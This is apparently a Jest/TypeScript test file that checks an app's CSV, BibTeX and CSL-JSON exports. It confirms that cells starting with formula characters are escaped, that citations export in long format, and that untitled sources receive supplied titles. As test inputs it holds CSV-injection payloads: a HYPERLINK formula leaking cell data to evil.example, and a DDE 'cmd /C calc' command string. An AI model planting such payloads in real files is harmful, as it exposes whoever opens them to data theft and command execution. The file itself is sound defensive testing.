/**
 * Exports safe and tidy (issue 26), through the real exports on the test database: CSV cells
 * neutralised against formula injection (OWASP: =, +, -, @, tab, carriage return) and read back
 * by csv-parse; citations in long format (citations.csv), none left in relations.csv; a source
 * with no known headline exported with a supplied title, read back by citation-js (BibTeX) and
 * rendered by citeproc-js (CSL-JSON), and no placeholder exported as a title anywhere.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import type { RunningServer } from '../../src/app/server';
import type { Database } from '../../src/core/db/database';
import { relationTypeNames } from '../../src/core/model/registry';
import { validateBundle, type Bundle } from '../../src/ingest/bundle';
import { writeBundle } from '../../src/ingest/writer';
import { citationJs } from '../support/citation-js';
import { graphql, uniqueSlug, useTestServer } from '../support/harness';

let db: Database;
let server: RunningServer;
useTestServer((opened) => ({ db, server } = opened));

const slug = uniqueSlug('export-safety');
/** OWASP's characters a spreadsheet starts a formula with. */
const leads = ['=', '+', '-', '@', '\t', '\r'];
const payload = 'HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const agency = (i: number) => `agency:${slug}-${i}`;
const sourceId = `source:${slug}`;
const supplied = '[coopgraph tests, 19 April 2024]';

/** Six agencies, each named and described with a formula behind one of the six characters; one PART_OF between two, cited with a formula quote and note; a source with no title. */
const bundle = (): Bundle =>
  validateBundle(
    {
      format: 'coopgraph-bundle/1',
      source: {
        id: sourceId,
        publisher: 'coopgraph tests',
        published: '2024-04-19',
        retrieved: '2026-11',
        language: 'en',
        url: `https://example.org/${slug}`,
        text: null,
      },
      entities: leads.map((lead, i) => ({
        id: agency(i),
        type: 'Agency',
        name: `${lead}cmd|' /C calc'!A0 ${slug} ${i}`,
        description: `${lead}${payload}`,
        quotes: [`${lead}2+5 said the source`],
      })),
      relations: [{ type: 'PART_OF', from: agency(0), to: agency(1), quotes: ['=1+1'], note: '@SUM(A1:A9)' }],
    },
    'export-safety',
  );

beforeAll(async () => {
  await writeBundle(db, bundle(), 'export-safety.json');
});

async function csvRows(file: string, query = ''): Promise<{ body: string; rows: Record<string, string>[] }> {
  const response = await fetch(`${server.url.replace(/\/graphql$/, '')}/export/${file}${query}`);
  expect(response.status).toBe(200);
  const body = await response.text();
  return { body, rows: parseCsv(body, { bom: true, columns: true }) as Record<string, string>[] };
}

const ours = `?idPrefix=${encodeURIComponent(`agency:${slug}`)}`;

describe('CSV formula injection', () => {
  test('nodes.csv: a name or description starting with any of the six characters is read back with a leading single quote', async () => {
    const { body, rows } = await csvRows('nodes.csv', ours);
    // Every field quoted: the header's too.
    expect(body.replace(/^\uFEFF/, '').startsWith('"Id","Label","type","name",')).toBe(true);
    expect(rows.map((row) => [row.Id, row.name, row.description])).toEqual(
      leads.map((lead, i) => [agency(i), `'${lead}cmd|' /C calc'!A0 ${slug} ${i}`, `'${lead}${payload}`]),
    );
    expect(rows.map((row) => row.Label)).toEqual(rows.map((row) => row.name));
  });

  test('citations.csv: a quote and a note starting with a formula are neutralised too', async () => {
    const { rows } = await csvRows('citations.csv', ours);
    const relation = rows.find((row) => row.statement_type === 'relation')!;
    expect([relation.quote, relation.note]).toEqual(["'=1+1", "'@SUM(A1:A9)"]);
    expect(rows.filter((row) => row.statement_type === 'entity').map((row) => row.quote)).toEqual(
      leads.map((lead) => `'${lead}2+5 said the source`),
    );
  });

  test.each(['nodes.csv', 'relations.csv', 'citations.csv'])(
    '%s of the whole graph: no cell a spreadsheet would run, only numbers may start with a minus',
    async (file) => {
      const { rows } = await csvRows(file);
      const cells = rows.flatMap((row) => Object.values(row));
      expect(cells.length).toBeGreaterThan(100);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
    },
  );
});

describe('citations in long format', () => {
  test('relations.csv has one row per relation and no citation columns; citations.csv one row per citation, with its source retrieved date', async () => {
    const relations = await csvRows('relations.csv', ours);
    expect(relations.rows).toHaveLength(1);
    expect(Object.keys(relations.rows[0]!)).toEqual([
      'Id',
      'Source',
      'Target',
      'Label',
      'type',
      'role',
      'start',
      'start_precision',
      'end',
      'end_precision',
      'disputed',
      'sources',
      'dataset_version',
    ]);
    const { rows } = await csvRows('citations.csv', ours);
    expect(Object.keys(rows[0]!)).toEqual([
      'statement_id',
      'statement_type',
      'source',
      'quote',
      'quote_en',
      'note',
      'retrieved',
      'dataset_version',
    ]);
    expect(rows.find((row) => row.statement_type === 'relation')).toMatchObject({
      statement_id: relations.rows[0]!.Id,
      source: sourceId,
      retrieved: '2026-11',
    });
    expect(rows.filter((row) => row.statement_type === 'entity').map((row) => row.statement_id)).toEqual(leads.map((_, i) => agency(i)));
  });

  test('the whole graph: as many citations.csv rows as the entities and relations carry citations', async () => {
    const [counted] = await db.read(
      `RETURN COLLECT { MATCH (e:Entity) RETURN sum(size(coalesce(e.sourceIds, []))) }[0] +
              COLLECT { MATCH (:Entity)-[r:${relationTypeNames.join('|')}]->(:Entity) RETURN sum(size(coalesce(r.sourceIds, []))) }[0] AS citations`,
    );
    const { rows } = await csvRows('citations.csv');
    expect(rows).toHaveLength(counted!.citations as number);
  });
});

describe('supplied titles', () => {
  test('a source with no title gets one from its publisher and date, marked supplied, in GraphQL, BibTeX and CSL-JSON', async () => {
    const answer = await graphql<{ source: { title: string; titleSupplied: boolean } }>(
      server,
      'query($id: ID!) { source(id: $id) { title titleSupplied } }',
      { id: sourceId },
    );
    expect(answer.data!.source).toEqual({ title: supplied, titleSupplied: true });
    const base = server.url.replace(/\/graphql$/, '');
    const bib = citationJs('bibtex', await (await fetch(`${base}/export/sources.bib${ours}`)).text()) as Record<string, string>[];
    expect(bib).toHaveLength(1);
    expect(bib[0]).toMatchObject({ 'citation-key': sourceId, title: supplied });
    expect(bib[0]!.note).toContain('title supplied');
    const csl = (await (await fetch(`${base}/export/sources.csl.json${ours}`)).json()) as Record<string, string>[];
    expect(csl).toEqual([expect.objectContaining({ id: sourceId, title: supplied, note: expect.stringContaining('title supplied') })]);
    expect(citationJs('render', JSON.stringify(csl))).toContain(supplied);
  });

  test('no exported title of the whole graph is a placeholder; the seed sources without a headline have supplied titles', async () => {
    const base = server.url.replace(/\/graphql$/, '');
    const bib = citationJs('bibtex', await (await fetch(`${base}/export/sources.bib`)).text()) as Record<string, string>[];
    const csl = (await (await fetch(`${base}/export/sources.csl.json`)).json()) as Record<string, string>[];
    const titles = [...bib, ...csl].map((item) => item.title!);
    expect(titles.filter((title) => /^\(.*\)$/.test(title) || /not in stored text/i.test(title))).toEqual([]);
    const suppliedSeeds = csl.filter((item) => item.note!.startsWith('title supplied') && item.id !== sourceId);
    expect(suppliedSeeds.length).toBeGreaterThan(0);
    for (const item of suppliedSeeds) expect(item.title).toMatch(/^\[.+, (\d{1,2} [A-Z][a-z]+ \d{4}|[A-Z][a-z]+ \d{4}|\d{4}|undated)\]$/);
  });
});
